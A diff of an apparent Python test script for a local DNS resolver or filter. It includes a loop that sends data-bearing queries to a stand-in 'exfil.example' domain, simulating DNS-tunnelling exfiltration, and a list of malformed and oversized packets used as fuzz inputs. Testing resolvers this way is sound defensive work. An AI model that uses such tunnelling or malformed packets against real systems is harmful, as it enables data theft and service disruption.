@@ -27,14 +27,18 @@ def curl(url):
 	return json.loads(subprocess.run(["curl", "-sS", url], capture_output=True).stdout or b'{"line": "no"}')["line"]
 def lookup(name, family=0):
 	return sorted({a[4][0] for a in socket.getaddrinfo(name, None, family)})
-def dns(data, wait=2.0):
+def dns(data):
+	"""The answer; a sound question behind it tells, when that one is answered, that there is none."""
+	found, last = b"silence", b"\xbe\xef" + query("listed.test")[2:]
 	with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-		s.settimeout(wait)
-		s.sendto(data, ("127.0.0.1", 53))
-		try:
-			return s.recv(2000)
-		except TimeoutError:
-			return b"silence"
+		s.settimeout(60)
+		for one in (data, last):
+			s.sendto(one, ("127.0.0.1", 53))
+		while True:
+			answer = s.recv(2000)
+			if answer[:2] == last[:2]:
+				return found
+			found = answer
 def query(name, kind=1, flags=0x100, counts=(1, 0, 0, 0), tail=b""):
 	labels = b"".join(bytes([len(x)]) + x for x in name.encode().split(b".")) + b"\0"
 	return struct.pack("!HH4H", 77, flags, *counts) + labels + struct.pack("!HH", kind, 1) + tail
@@ -155,7 +159,7 @@ none += [attempt(lookup, "listed.test", socket.AF_INET6)]
 raw = [code(dns(query("listed.test", kind))) for kind in (1, 28, 15, 16, 65, 255)]
 counts = [dns(query("listed.test", kind))[7] for kind in (1, 28, 15)]
 leak = [code(dns(query("%s.%d.exfil.example" % ("ab" * 25, i)))) for i in range(100)]
-junk = [code(dns(d, 0.2)) for d in (b"", b"x", b"\0" * 11, b"\0" * 12, b"\xff" * 600, b"\0" * 3000, query("listed.test", flags=0x8180),
+junk = [code(dns(d)) for d in (b"", b"x", b"\0" * 11, b"\0" * 12, b"\xff" * 600, b"\0" * 3000, query("listed.test", flags=0x8180),
 	query("listed.test", flags=0x2900), query("listed.test", counts=(2, 0, 0, 0)), query("listed.test", counts=(0, 0, 0, 0)),
 	query("listed.test")[:-1], query("listed.test")[:20], HEAD + b"\xc0\x0c\0\1\0\1", HEAD + b"\x3faaaa", HEAD + b"\x0blisted.test\0\0\1\0\1",
 	HEAD + 4 * label(63) + b"\0\0\1\0\1")]
